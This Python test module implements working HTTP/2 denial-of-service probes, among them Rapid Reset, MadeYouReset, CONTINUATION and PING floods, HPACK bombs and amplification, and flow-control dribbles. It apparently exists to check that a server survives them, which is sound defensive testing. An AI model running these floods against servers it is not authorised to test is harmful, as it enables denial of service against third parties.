"""Known HTTP/2 attacks as small clients, for the end-to-end probe test and by hand.

Each probe opens its own connection, attacks until the server closes it (or a time
limit), and reports what the server did. Run by hand against any server:

    python -m tests.attack_probes 127.0.0.1 8080
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import socket
import sys
from collections.abc import Callable

import h2.config
import h2.connection
import h2.settings
import hpack

from .h2wire.frames import (
    CANCEL,
    GOAWAY,
    INITIAL_WINDOW_SIZE,
    RST_STREAM,
    FrameDecoder,
    continuation_frame,
    data_frame,
    headers_frame,
    ping_frame,
    rst_stream_frame,
    settings_frame,
    window_update_frame,
)


@dataclasses.dataclass
class ProbeResult:
    name: str
    closed_by_server: bool
    goaway_code: int | None
    bytes_sent: int
    #: RST_STREAM frames the server sent (its replies, or streams it refused).
    resets_received: int = 0
    bytes_received: int = 0


def _client(settings: dict[int, int] | None = None) -> h2.connection.H2Connection:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    if settings:
        conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    conn.initiate_connection()
    return conn


def _request(path: str, host: str) -> list[tuple[bytes, bytes]]:
    return [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", host.encode()), (b":path", path.encode())]


async def _watch(reader: asyncio.StreamReader, result: ProbeResult) -> None:
    """Read (and parse) whatever the server sends until it closes the connection."""
    decoder = FrameDecoder()
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                result.closed_by_server = True
                return
            result.bytes_received += len(data)
            for frame in decoder.feed(data):
                if frame.type == GOAWAY:
                    result.goaway_code = frame.error_code
                elif frame.type == RST_STREAM:
                    result.resets_received += 1
    except (ConnectionError, OSError):
        result.closed_by_server = True


async def _flood(
    name: str,
    host: str,
    port: int,
    first: bytes,
    chunk: bytes | Callable[[], bytes],
    limit: float,
    pause: float = 0.0,
    received_first: int = 0,
) -> ProbeResult:
    """Send ``first``, then ``chunk`` (or what it returns) over and over, ``pause``
    seconds apart, until the server closes the connection, or for ``limit`` seconds;
    the chunks start once the server has sent ``received_first`` bytes (or a third of
    the time limit has passed)."""
    result = ProbeResult(name, False, None, 0)
    reader, writer = await asyncio.open_connection(host, port)
    watcher = asyncio.create_task(_watch(reader, result))
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit
    try:
        writer.write(first)
        result.bytes_sent += len(first)
        wait_until = loop.time() + limit / 3
        while result.bytes_received < received_first and not watcher.done() and loop.time() < wait_until:
            await asyncio.sleep(0.01)
        while not watcher.done() and loop.time() < deadline:
            data = chunk() if callable(chunk) else chunk
            writer.write(data)
            result.bytes_sent += len(data)
            try:
                await asyncio.wait_for(writer.drain(), 1.0)
            except TimeoutError:
                pass  # the server stopped reading us: fine, keep watching
            await asyncio.sleep(pause)
        await asyncio.wait_for(asyncio.shield(watcher), max(0.1, deadline - loop.time()))
    except (ConnectionError, OSError, TimeoutError):
        pass
    finally:
        watcher.cancel()
        writer.close()
    return result


def _handshake(conn: h2.connection.H2Connection) -> bytes:
    return conn.data_to_send()


def _stream_pairs(encoded: bytes, end_stream: bool, follow: Callable[[int], bytes], count: int) -> Callable[[], bytes]:
    """Batches of ``count`` new streams: HEADERS with the block ``encoded``, then
    ``follow(stream_id)``, on streams 1, 3, 5, ..."""
    stream_id = 1

    def batch() -> bytes:
        nonlocal stream_id
        out = bytearray()
        for _ in range(count):
            out += headers_frame(stream_id, encoded, end_stream=end_stream)
            out += follow(stream_id)
            stream_id += 2
        return bytes(out)

    return batch


async def rapid_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    """HEADERS immediately followed by RST_STREAM, on ever new streams (CVE-2023-44487)."""
    conn = _client()
    first = _handshake(conn)
    encoded = bytes(conn.encoder.encode(_request("/", host)))
    batch = _stream_pairs(encoded, True, lambda stream_id: rst_stream_frame(stream_id, CANCEL), 500)
    return await _flood("rapid reset", host, port, first, batch, limit)


async def ping_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    first = _handshake(_client())
    return await _flood("PING flood", host, port, first, ping_frame(b"floodfld") * 2000, limit)


async def settings_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    first = _handshake(_client())
    frame = settings_frame((INITIAL_WINDOW_SIZE, 65535))
    return await _flood("SETTINGS flood", host, port, first, frame * 2000, limit)


async def empty_data_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    conn = _client()
    first = _handshake(conn)
    request = [(b":method", b"POST"), *_request("/", host)[1:]]
    first += headers_frame(1, bytes(conn.encoder.encode(request)), end_stream=False)
    return await _flood("empty DATA flood", host, port, first, data_frame(1, b"") * 2000, limit)


async def continuation_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    conn = _client()
    first = _handshake(conn)
    first += headers_frame(1, bytes(conn.encoder.encode(_request("/", host))), end_stream=False, end_headers=False)
    return await _flood("CONTINUATION flood", host, port, first, continuation_frame(1, b"a" * 4096, end_headers=False), limit)


async def hpack_bomb(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    conn = _client()
    first = _handshake(conn)
    block = bytes(conn.encoder.encode(_request("/", host)))
    block += bytes(conn.encoder.encode([(b"x-bomb", b"b" * 4000)]))
    block += b"\xbe" * 8000  # index 62 (the bomb field) again and again
    frame = headers_frame(1, block)
    return await _flood("HPACK bomb", host, port, first + frame, b"", limit)


def heavy_header_block(encoder: hpack.Encoder, host: str, fields: int = 1900) -> bytes:
    """A GET whose header block adds ``fields`` one-byte fields: HPACK references to the
    static table's ``accept-encoding: gzip, deflate`` (60 bytes each as decoded, so 1,900
    stay below twice the default SETTINGS_MAX_HEADER_LIST_SIZE)."""
    return bytes(encoder.encode(_request("/", host))) + b"\x90" * fields


async def header_heavy(host: str, port: int, limit: float = 10.0, per_write: int = 50) -> ProbeResult:
    """Writes of ``per_write`` requests of 1,900 one-byte fields each: a few bytes on the
    wire make the server decode and validate thousands of fields."""
    conn = _client()
    first = _handshake(conn)
    stream_id = 1

    def batch() -> bytes:
        nonlocal stream_id
        out = bytearray()
        for _ in range(per_write):
            block = heavy_header_block(conn.encoder, host)
            out += headers_frame(stream_id, block)
            stream_id += 2
        return bytes(out)

    return await _flood("header-heavy requests", host, port, first, batch, limit)


async def window_dribble(
    host: str, port: int, path: str = "/api/books", limit: float = 10.0, initial_window: int | None = None
) -> ProbeResult:
    """100 large downloads whose stream windows are then opened one byte at a time
    (WINDOW_UPDATE(1) for each stream, again and again), the connection window wide
    open: one-byte DATA frames, each costing the server a scheduling round. The dribble
    starts once the first windows' worth of DATA has arrived, so that every update
    could buy a frame."""
    conn = _client({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window} if initial_window is not None else None)
    conn.increment_flow_control_window(2**30)
    stream_ids = []
    for _ in range(100):
        stream_ids.append(conn.get_next_available_stream_id())
        conn.send_headers(stream_ids[-1], _request(path, host), end_stream=True)
    first = _handshake(conn)
    updates = b"".join(window_update_frame(stream_id, 1) for stream_id in stream_ids) * 10
    name = "WINDOW_UPDATE(1) dribble" if initial_window is None else f"WINDOW_UPDATE(1) dribble, initial window {initial_window}"
    window = 65535 if initial_window is None else initial_window
    return await _flood(name, host, port, first, updates, limit, received_first=len(stream_ids) * window * 9 // 10)


async def tiny_window_dribble(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    """The dribble with SETTINGS_INITIAL_WINDOW_SIZE 1: tiny windows look legitimate."""
    return await window_dribble(host, port, limit=limit, initial_window=1)


async def slow_read(host: str, port: int, path: str = "/", limit: float = 10.0) -> ProbeResult:
    """Ask for a response, keep every window at zero, never read: the server must not
    keep the bytes forever or block others."""
    result = ProbeResult("slow read", False, None, 0)
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (host, port))
    _reader, writer = await asyncio.open_connection(sock=sock)
    conn = _client({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(50):
        conn.send_headers(conn.get_next_available_stream_id(), _request(path, host), end_stream=True)
    data = conn.data_to_send()
    writer.write(data)
    result.bytes_sent = len(data)
    await asyncio.sleep(limit)
    writer.close()
    return result


async def made_you_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    """MadeYouReset (CVE-2025-8671): requests that make the *server* reset them. Each
    declares ``content-length: 0``, then sends one byte of body: the server starts the
    handler, then must reset the stream for the broken content-length. Batches of 50,
    a little apart, so the handlers finish in between and never fill the stream limit."""
    conn = _client()
    first = _handshake(conn)
    encoded = bytes(conn.encoder.encode([*_request("/", host), (b"content-length", b"0")]))
    batch = _stream_pairs(encoded, False, lambda stream_id: data_frame(stream_id, b"x", end_stream=True), 50)
    return await _flood("MadeYouReset (content-length)", host, port, first, batch, limit, pause=0.01)


async def window_overflow_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    """MadeYouReset again: a WINDOW_UPDATE that overflows a new stream's window makes
    the server reset it (FLOW_CONTROL_ERROR). Paced as ``made_you_reset``."""
    conn = _client()
    first = _handshake(conn)
    encoded = bytes(conn.encoder.encode(_request("/", host)))
    batch = _stream_pairs(encoded, False, lambda stream_id: window_update_frame(stream_id, 2**31 - 1), 50)
    return await _flood("MadeYouReset (window overflow)", host, port, first, batch, limit, pause=0.01)


async def closed_stream_data(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    """Reset amplification: reset stream 1, then keep sending DATA on it. Each frame asks
    for a RST_STREAM(STREAM_CLOSED) back; ``resets_received`` counts how many came."""
    conn = _client()
    first = _handshake(conn)
    request = [(b":method", b"POST"), *_request("/", host)[1:]]
    first += headers_frame(1, bytes(conn.encoder.encode(request)), end_stream=False)
    first += rst_stream_frame(1, CANCEL)
    # One byte each. The server credits DATA on closed streams back to the connection
    # window at once, so nothing but a budget bounds the flood.
    return await _flood("DATA on a reset stream", host, port, first, data_frame(1, b"x") * 2000, limit)


#: A field inserted into the HPACK dynamic table once, then referenced by index 62.
_BIG_FIELD = (b"x-big", b"b" * 4000)
_BIG_FIELD_REFERENCES = 15


def _referencing_requests(conn: h2.connection.H2Connection, host: str, path: str) -> Callable[[int], bytes]:
    """HEADERS frames (no END_STREAM: the request stays open) of a few dozen bytes on
    the wire that decode to 15 copies of ``_BIG_FIELD``: 60 KB each. The first one
    inserts the field; nothing else enters the dynamic table, so it stays index 62."""
    encoder = conn.encoder
    request = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in _request(path, host)]
    base = bytes(encoder.encode(request))
    first = base + bytes(encoder.encode([_BIG_FIELD])) + b"\xbe" * (_BIG_FIELD_REFERENCES - 1)
    again = base + b"\xbe" * _BIG_FIELD_REFERENCES

    def frame(stream_id: int) -> bytes:
        return headers_frame(stream_id, first if stream_id == 1 else again, end_stream=False)

    return frame


async def hpack_amplification(host: str, port: int, limit: float = 10.0, streams: int | None = None) -> ProbeResult:
    """HPACK amplification below every per-request limit: streams that stay open and
    each decode to 60 KB from 27 bytes. With ``streams``, open that many, hold them
    for ``limit`` seconds and leave; without, keep opening new ones until closed."""
    conn = _client()
    first = _handshake(conn)
    frame = _referencing_requests(conn, host, "/api/books/7")
    stream_id = 1
    if streams is not None:
        result = ProbeResult(f"HPACK amplification ({streams} streams held)", False, None, 0)
        reader, writer = await asyncio.open_connection(host, port)
        watcher = asyncio.create_task(_watch(reader, result))
        data = first + b"".join(frame(1 + 2 * i) for i in range(streams))
        writer.write(data)
        result.bytes_sent = len(data)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.shield(watcher), limit)
        watcher.cancel()
        writer.close()
        return result

    def batch() -> bytes:
        nonlocal stream_id
        out = bytearray()
        for _ in range(50):
            out += frame(stream_id)
            stream_id += 2
        return bytes(out)

    return await _flood("HPACK amplification", host, port, first, batch, limit)


PROBES = (
    rapid_reset,
    ping_flood,
    settings_flood,
    empty_data_flood,
    continuation_flood,
    hpack_bomb,
    made_you_reset,
    window_overflow_reset,
    closed_stream_data,
    hpack_amplification,
    header_heavy,
    window_dribble,
    tiny_window_dribble,
)


async def _main(host: str, port: int) -> None:
    for probe in PROBES:
        print(await probe(host, port))
    print(await slow_read(host, port, limit=2.0))
    print(await hpack_amplification(host, port, limit=2.0, streams=100))


if __name__ == "__main__":
    asyncio.run(_main(sys.argv[1], int(sys.argv[2])))
